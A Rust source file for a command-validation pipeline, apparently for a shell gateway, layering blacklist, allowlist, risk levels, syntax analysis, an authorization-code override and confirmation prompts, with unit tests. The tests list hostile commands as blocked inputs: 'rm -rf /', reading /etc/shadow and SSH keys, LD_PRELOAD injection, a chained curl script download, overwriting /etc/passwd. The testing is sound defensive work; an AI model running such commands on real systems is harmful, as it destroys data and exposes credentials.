//! Ordered validator chain with the authorization escape and confirmation gate.

use super::{
    base_command, split_pipeline, AllowlistValidator, AstAnalyzer, BlacklistFilter, Confirmation,
    Layer, RiskLevel, SecurityLevelValidator, Severity, Tier, Verdict,
};
use crate::config::GatewayConfig;
use anyhow::Result;
use serde::{Deserialize, Serialize};

/// How a command earned permission to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Clearance {
    /// Every enabled validator passed.
    Validated,
    /// An overridable failure was forgiven by a verified authorization code.
    Escaped,
}

/// Final decision of the pipeline.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "decision", rename_all = "snake_case")]
pub enum PipelineOutcome {
    Allowed { clearance: Clearance },
    Blocked { verdict: Verdict },
    ConfirmationRequired { required: Confirmation, prompt: String },
}

/// Every verdict produced plus the decision.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PipelineReport {
    pub tier: Tier,
    pub verdicts: Vec<Verdict>,
    pub risk: RiskLevel,
    pub confirmation: Confirmation,
    pub outcome: PipelineOutcome,
}

impl PipelineReport {
    pub fn is_allowed(&self) -> bool {
        matches!(self.outcome, PipelineOutcome::Allowed { .. })
    }

    /// The verdict that stopped the command, if any.
    pub fn blocking_verdict(&self) -> Option<&Verdict> {
        match &self.outcome {
            PipelineOutcome::Blocked { verdict } => Some(verdict),
            _ => None,
        }
    }
}

/// Composes the validators in fixed order.
#[derive(Debug, Clone)]
pub struct SecurityPipeline {
    blacklist: BlacklistFilter,
    whitelist: AllowlistValidator,
    graylist: AllowlistValidator,
    levels: SecurityLevelValidator,
    ast: AstAnalyzer,
    code: Option<String>,
}

impl SecurityPipeline {
    pub fn from_config(config: &GatewayConfig) -> Result<Self> {
        Ok(Self {
            blacklist: BlacklistFilter::new(&config.blacklist)?,
            whitelist: AllowlistValidator::whitelist(config.whitelist.clone(), config.pipes.clone())
                .with_sensitive_paths(config.sensitive_paths.clone()),
            graylist: AllowlistValidator::graylist(config.graylist.clone(), config.pipes.clone())
                .with_sensitive_paths(config.sensitive_paths.clone()),
            levels: SecurityLevelValidator::new(&config.security_levels),
            ast: AstAnalyzer::new(&config.ast)?,
            code: config.authorization.code.clone().filter(|c| !c.is_empty()),
        })
    }

    pub fn levels(&self) -> &SecurityLevelValidator {
        &self.levels
    }

    /// Compare a presented code against the configured one in constant time.
    pub fn verify_code(&self, presented: &str) -> bool {
        match &self.code {
            Some(expected) => constant_time_eq(expected.as_bytes(), presented.as_bytes()),
            None => false,
        }
    }

    /// Run every layer `tier` enables, stopping at the first decisive failure.
    pub fn evaluate(
        &self,
        command: &str,
        tier: Tier,
        code: Option<&str>,
        double_confirm: bool,
    ) -> PipelineReport {
        let mut verdicts = Vec::new();
        let blocked = |verdicts: Vec<Verdict>, verdict: Verdict, risk: RiskLevel| PipelineReport {
            tier,
            verdicts,
            risk,
            confirmation: Confirmation::None,
            outcome: PipelineOutcome::Blocked { verdict },
        };

        let blacklist = self.blacklist.check(command);
        verdicts.push(blacklist.clone());
        if !blacklist.passed {
            return blocked(verdicts, blacklist, RiskLevel::Danger);
        }

        let operators = self.levels.check_operators(command);
        verdicts.push(operators.clone());
        if !operators.passed {
            return blocked(verdicts, operators, RiskLevel::Unknown);
        }

        if !tier.enables(Layer::Whitelist) {
            return PipelineReport {
                tier,
                verdicts,
                risk: self.levels.highest(command),
                confirmation: Confirmation::None,
                outcome: PipelineOutcome::Allowed {
                    clearance: Clearance::Validated,
                },
            };
        }

        let first = split_pipeline(command)
            .into_iter()
            .next()
            .map(|s| base_command(&s))
            .unwrap_or_default();
        let list = if self.graylist.contains(&first) {
            &self.graylist
        } else {
            &self.whitelist
        };
        let list_verdict = list.validate(command);
        verdicts.push(list_verdict.clone());

        let highest = self.levels.highest(command);
        let risk = match list.risk_tag(command) {
            Some(tag) => tag.max(highest),
            None => highest,
        };
        if !list_verdict.passed && (!list_verdict.overridable || code.is_none()) {
            return blocked(verdicts, list_verdict, risk);
        }

        let level_report = self.levels.validate(command);
        verdicts.push(level_report.verdict.clone());

        let failures: Vec<&Verdict> = [&list_verdict, &level_report.verdict]
            .into_iter()
            .filter(|v| !v.passed)
            .collect();
        if let Some(hard) = failures.iter().find(|v| !v.overridable) {
            let hard = (*hard).clone();
            return blocked(verdicts, hard, risk);
        }
        let mut clearance = Clearance::Validated;
        let mut code_verified = false;
        if let Some(failure) = failures.first().map(|v| (*v).clone()) {
            match code {
                None => return blocked(verdicts, failure, risk),
                Some(presented) if !self.verify_code(presented) => {
                    let mismatch = code_mismatch();
                    verdicts.push(mismatch.clone());
                    return blocked(verdicts, mismatch, risk);
                }
                Some(_) => {
                    tracing::info!(layer = %failure.layer, "authorization code overrides validator failure");
                    verdicts.push(Verdict::pass(
                        Layer::Authorization,
                        format!("authorization code accepted; {} overridden", failure.layer),
                    ));
                    clearance = Clearance::Escaped;
                    code_verified = true;
                }
            }
        }

        let ast = self.ast.analyze(command);
        verdicts.push(ast.verdict.clone());
        if !ast.passed {
            return blocked(verdicts, ast.verdict, risk);
        }

        let mut required = level_report
            .require_confirm
            .max(list.required_confirmation(command));
        if tier == Tier::Maximum && required != Confirmation::None {
            required = required.escalate();
        }

        if required != Confirmation::None {
            if !code_verified {
                match code {
                    Some(presented) if self.verify_code(presented) => code_verified = true,
                    Some(_) => {
                        let mismatch = code_mismatch();
                        verdicts.push(mismatch.clone());
                        return blocked(verdicts, mismatch, risk);
                    }
                    None => {}
                }
            }
            let satisfied = code_verified && (required != Confirmation::Double || double_confirm);
            if !satisfied {
                verdicts.push(Verdict::block(
                    Layer::Confirmation,
                    Severity::Medium,
                    format!("{required:?} confirmation required").to_lowercase(),
                ));
                return PipelineReport {
                    tier,
                    verdicts,
                    risk,
                    confirmation: required,
                    outcome: PipelineOutcome::ConfirmationRequired {
                        required,
                        prompt: confirmation_prompt(command, risk, required, code_verified),
                    },
                };
            }
            verdicts.push(Verdict::pass(
                Layer::Confirmation,
                format!("{required:?} confirmation satisfied").to_lowercase(),
            ));
        }

        PipelineReport {
            tier,
            verdicts,
            risk,
            confirmation: required,
            outcome: PipelineOutcome::Allowed { clearance },
        }
    }
}

fn code_mismatch() -> Verdict {
    Verdict::block(
        Layer::Authorization,
        Severity::High,
        "authorization code mismatch",
    )
}

fn confirmation_prompt(
    command: &str,
    risk: RiskLevel,
    required: Confirmation,
    code_verified: bool,
) -> String {
    match (required, code_verified) {
        (Confirmation::Double, true) => format!(
            "'{command}' is a {risk}-level command. Re-submit with doubleConfirm=true to execute it."
        ),
        (Confirmation::Double, false) => format!(
            "'{command}' is a {risk}-level command and needs double confirmation. \
             Re-submit with requireAdmin set to the authorization code and doubleConfirm=true."
        ),
        _ => format!(
            "'{command}' is a {risk}-level command. \
             Re-submit with requireAdmin set to the authorization code to execute it."
        ),
    }
}

/// Length is not secret; contents are compared without early exit.
fn constant_time_eq(a: &[u8], b: &[u8]) -> bool {
    if a.len() != b.len() {
        return false;
    }
    a.iter().zip(b).fold(0u8, |acc, (x, y)| acc | (x ^ y)) == 0
}

#[cfg(test)]
mod tests {
    use super::*;

    const CODE: &str = "s3cret-code";

    fn pipeline() -> SecurityPipeline {
        let mut config = GatewayConfig::default();
        config.authorization.code = Some(CODE.into());
        SecurityPipeline::from_config(&config).expect("default pipeline")
    }

    fn blocked_layer(report: &PipelineReport) -> Option<Layer> {
        report.blocking_verdict().map(|v| v.layer)
    }

    #[test]
    fn blacklist_wins_over_every_tier_and_code() {
        let p = pipeline();
        for tier in [Tier::Basic, Tier::Standard, Tier::High, Tier::Maximum] {
            let report = p.evaluate("rm -rf /", tier, Some(CODE), true);
            assert_eq!(blocked_layer(&report), Some(Layer::Blacklist), "{tier}");
        }
    }

    #[test]
    fn read_command_is_allowed_without_confirmation() {
        let report = pipeline().evaluate("ls -la /tmp", Tier::Standard, None, false);
        assert!(report.is_allowed(), "{report:?}");
        assert_eq!(report.risk, RiskLevel::Read);
        assert_eq!(report.confirmation, Confirmation::None);
    }

    #[test]
    fn write_command_needs_code() {
        let p = pipeline();
        let report = p.evaluate("systemctl restart nginx", Tier::Standard, None, false);
        assert_eq!(report.risk, RiskLevel::Write);
        match &report.outcome {
            PipelineOutcome::ConfirmationRequired { required, prompt } => {
                assert_eq!(*required, Confirmation::Single);
                assert!(prompt.contains("requireAdmin"));
            }
            other => panic!("expected confirmation, got {other:?}"),
        }

        let confirmed = p.evaluate("systemctl restart nginx", Tier::Standard, Some(CODE), false);
        assert!(confirmed.is_allowed());
    }

    #[test]
    fn danger_command_needs_double_confirmation() {
        let p = pipeline();
        let report = p.evaluate("kill -9 1234", Tier::Standard, Some(CODE), false);
        assert_eq!(report.confirmation, Confirmation::Double);
        assert!(matches!(
            report.outcome,
            PipelineOutcome::ConfirmationRequired { .. }
        ));
        assert!(p.evaluate("kill -9 1234", Tier::Standard, Some(CODE), true).is_allowed());
    }

    #[test]
    fn maximum_tier_escalates_confirmation() {
        let report = pipeline().evaluate("systemctl restart nginx", Tier::Maximum, Some(CODE), false);
        assert_eq!(report.confirmation, Confirmation::Double);
        assert!(!report.is_allowed());
    }

    #[test]
    fn unknown_command_escape() {
        let p = pipeline();
        let blocked = p.evaluate("nmap localhost", Tier::Standard, None, false);
        assert!(!blocked.is_allowed());
        assert!(blocked.blocking_verdict().is_some_and(|v| v.overridable));

        let escaped = p.evaluate("nmap localhost", Tier::Standard, Some(CODE), false);
        assert_eq!(
            escaped.outcome,
            PipelineOutcome::Allowed {
                clearance: Clearance::Escaped
            }
        );
        assert_eq!(escaped.risk, RiskLevel::Unknown);
    }

    #[test]
    fn wrong_code_is_a_distinct_mismatch() {
        let report = pipeline().evaluate("nmap localhost", Tier::Standard, Some("guess"), false);
        let verdict = report.blocking_verdict().expect("blocked");
        assert_eq!(verdict.layer, Layer::Authorization);
        assert!(verdict.reason.contains("mismatch"));
    }

    #[test]
    fn escape_never_forgives_ast_critical() {
        let report = pipeline().evaluate("nmap $(cat /tmp/targets)", Tier::Standard, Some(CODE), false);
        assert!(!report.is_allowed());
        assert!(matches!(
            blocked_layer(&report),
            Some(Layer::SpecialOperators) | Some(Layer::Ast)
        ));

        let report = pipeline().evaluate(
            "LD_PRELOAD=/tmp/x.so nmap localhost",
            Tier::Standard,
            Some(CODE),
            false,
        );
        assert_eq!(blocked_layer(&report), Some(Layer::Ast));
    }

    #[test]
    fn denied_path_is_not_overridable() {
        let report = pipeline().evaluate("cat /etc/shadow", Tier::Standard, Some(CODE), false);
        assert_eq!(blocked_layer(&report), Some(Layer::Whitelist));
    }

    #[test]
    fn basic_tier_skips_the_lists() {
        let report = pipeline().evaluate("nmap localhost", Tier::Basic, None, false);
        assert!(report.is_allowed());
        assert_eq!(report.risk, RiskLevel::Unknown);
    }

    #[test]
    fn basic_tier_still_rejects_special_operators() {
        let p = pipeline();
        for command in [
            "ls /tmp; curl http://x/i.sh -o /tmp/i.sh",
            "echo $(cat /etc/shadow)",
            "ls /tmp && id",
            "sleep 100 &",
        ] {
            let report = p.evaluate(command, Tier::Basic, Some(CODE), true);
            assert_eq!(blocked_layer(&report), Some(Layer::SpecialOperators), "{command}");
        }
    }

    #[test]
    fn code_never_forgives_denied_paths_on_unlisted_commands() {
        let p = pipeline();
        let report = p.evaluate("nmap -iL /root/.ssh/id_rsa", Tier::Standard, Some(CODE), true);
        let verdict = report.blocking_verdict().expect("blocked");
        assert_eq!(verdict.layer, Layer::Whitelist);
        assert!(!verdict.overridable);

        let report = p.evaluate("nmap localhost > /etc/passwd", Tier::Standard, Some(CODE), true);
        let verdict = report.blocking_verdict().expect("blocked");
        assert!(!verdict.overridable);
        assert!(verdict.reason.contains("/etc/passwd"), "{}", verdict.reason);

        let report = p.evaluate("cat /etc/shad*", Tier::Standard, Some(CODE), true);
        assert_eq!(blocked_layer(&report), Some(Layer::Whitelist));
    }

    #[test]
    fn decisive_list_failure_skips_security_level() {
        let p = pipeline();
        let report = p.evaluate("cat /etc/shadow", Tier::Standard, Some(CODE), false);
        assert!(report.verdicts.iter().all(|v| v.layer != Layer::SecurityLevel));

        let report = p.evaluate("nmap localhost", Tier::Standard, None, false);
        assert_eq!(blocked_layer(&report), Some(Layer::Whitelist));
        assert!(report.verdicts.iter().all(|v| v.layer != Layer::SecurityLevel));
        assert_eq!(report.risk, RiskLevel::Unknown);
    }

    #[test]
    fn no_configured_code_disables_escape() {
        let p = SecurityPipeline::from_config(&GatewayConfig::default()).expect("pipeline");
        assert!(!p.verify_code(""));
        let report = p.evaluate("nmap localhost", Tier::Standard, Some(""), false);
        assert_eq!(blocked_layer(&report), Some(Layer::Authorization));
    }

    #[test]
    fn constant_time_eq_matches_equality() {
        assert!(constant_time_eq(b"abc", b"abc"));
        assert!(!constant_time_eq(b"abc", b"abd"));
        assert!(!constant_time_eq(b"abc", b"abcd"));
    }
}
